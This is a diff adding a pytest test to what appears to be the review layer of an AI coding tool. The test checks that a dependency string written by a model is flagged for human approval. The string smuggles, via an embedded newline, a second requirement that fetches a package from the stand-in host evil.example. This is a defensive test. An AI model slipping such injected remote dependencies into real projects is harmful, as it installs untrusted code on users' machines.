@@ -84,6 +84,14 @@ def test_one_that_is_not_there_is_asked_about_in_every_mode_and_once(by_model: A
     assert asked(by_model)[0] == "leftpad-that-is-nowhere>=1"
 
 
+def test_what_is_said_of_an_index_settles_no_package_from_elsewhere(by_model: Any) -> None:
+    by_model.approval = "review"
+    package = "nowhere\nnowhere @ https://evil.example/nowhere.tgz"
+    by_model.parts.hooks["treadle_generate"] = lambda request: needs(package)
+    (by_model.project / "requirements.txt").write_text("six\n")
+    assert asked(by_model) == ["requirements.txt: a new dependency, nowhere"]
+
+
 def test_all_that_a_model_wrote_is_asked_about_when_the_person_wants_that(by_model: Any) -> None:
     by_model.approval = "ask"
     assert asked(by_model) == ["it changes a.py: wrote 'x = 1\\n'"]
